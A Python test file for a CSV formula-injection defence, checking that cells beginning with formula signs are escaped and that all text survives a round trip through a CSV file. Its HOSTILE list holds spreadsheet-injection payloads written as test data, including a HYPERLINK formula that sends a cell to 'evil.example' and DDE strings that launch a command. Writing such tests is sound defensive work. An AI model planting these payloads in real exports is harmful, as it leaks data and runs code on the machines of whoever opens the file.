"""What a spreadsheet sees: nothing of what we write is run, and nothing of it is lost."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from negotiations.cells import cell, raw

HOSTILE = [
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "\t", "＝1+1", "＋1",
    "－1", "＠SUM(1)", " =1", "\u00a0=1", "\u3000=1", "\ufeff=1",
    "\u200b=1", "\u202e=1", "'=1", "''@", "\x01=1",
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"조현\")", "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "- said the minister", "+82 2 2100 2114", "-0500-01-01",
]  # fmt: skip
PLAIN = [
    "조현", "‘가까워졌다’", "'close,' he said", "2025-10-05", "2025-10~", "../2025-10-31", "-3.5",
    "-12", "8.2", "0", "", "https://paper.example/=1", "a = b", "“=1”", "KR; US",
]  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE)
def test_what_would_be_run_is_text(text: str) -> None:
    assert cell(text) == f"'{text}"
    assert raw(cell(text)) == text


@pytest.mark.parametrize("text", PLAIN)
def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    assert cell(text) == text == raw(text)


def test_what_is_no_text_is_written_plainly() -> None:
    assert [cell(one) for one in (None, True, False, 0, 1, -5)] == [
        "",
        "true",
        "false",
        "0",
        "1",
        "-5",
    ]


# Signs, quotation marks and white space, so that they meet; and anything else.
_texts = st.one_of(
    st.text(st.sampled_from("=+-@＝＋－＠'\"\t\r\n ,;0.\ufeff조a"), max_size=8),
    st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0")),
)


@given(texts=st.lists(_texts, min_size=1))
def test_every_text_comes_back(texts: list[str]) -> None:
    """Through a file and another reader of it."""
    out = io.StringIO(newline="")
    csv.writer(out).writerow([*map(cell, texts), "end"])
    read = list(csv.reader(io.StringIO(out.getvalue(), newline=""), strict=True))
    assert read == [[*map(cell, texts), "end"]]
    assert [raw(one) for one in read[0][:-1]] == texts
    for one in read[0]:
        seen = one.lstrip().lstrip("\ufeff").lstrip()
        assert not seen.startswith(tuple("=+@＝＋－＠"))
        assert not one.startswith(tuple("\t\r\n"))
